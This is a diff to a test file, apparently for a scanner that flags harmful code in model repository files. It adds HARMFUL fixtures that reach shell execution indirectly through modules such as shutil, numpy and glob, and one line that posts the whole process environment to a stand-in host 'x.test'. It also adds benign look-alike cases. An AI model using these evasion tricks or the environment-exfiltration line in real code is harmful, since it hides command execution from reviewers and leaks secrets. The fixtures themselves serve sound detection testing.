@@ -146,6 +146,19 @@ HARMFUL = {
         "modeling_x.py",
         "import subprocess as s\nclass M(type):\n    def __new__(c, *a):\n        s.Popen('x', shell=True)\n",
     ),
+    **{
+        f"borrowed: {source.splitlines()[0]}": ("modeling_x.py", source)
+        for source in (
+            "from torch.utils.data import os as o\no.system('bad')\n",
+            "import shutil\nshutil.os.system('bad')\n",
+            "import platform\nplatform.subprocess.run('bad')\n",
+            "import numpy\nnumpy.os.popen('bad')\n",
+            "from linecache import os as q\nq.popen('bad')\n",
+            "import os\nos.system.__call__('bad')\n",
+            "import glob\nlist(map(glob.os.system, ['bad']))\n",
+            "import tempfile, requests\nrequests.post('http://x.test', json=dict(tempfile._os.environ))\n",
+        )
+    },
     "names of a frame": ("modeling_x.py", "import sys\nsys._getframe(0).f_builtins['exec']('1')\n"),
     "included": (
         "a.xml",
@@ -206,7 +219,15 @@ ORDINARY = {
     ),
     "what documentation shows": (
         "README.md",
-        "export HF_TOKEN=hf_" + "x" * 34 + "\nAWS_ACCESS_KEY_ID=AKIA" + "IOSFODNN7EXAMPLE\n",
+        "export HF_TOKEN=hf_" + "x" * 34 + "\nOPENAI_API_KEY=sk-" + "x" * 48 + "\n",
+    ),
+    "names of others that are like those of modules": (
+        "modeling_x.py",
+        (
+            "import torch\nfrom torch.nn import functional as F\n"
+            "class A(torch.nn.Module):\n    def forward(self, x):\n"
+            "        self.position = self.os_ratio * 2\n        return F.relu(self.subsample.run(x))\n"
+        ),
     ),
     "emoji": (
         "README.md",
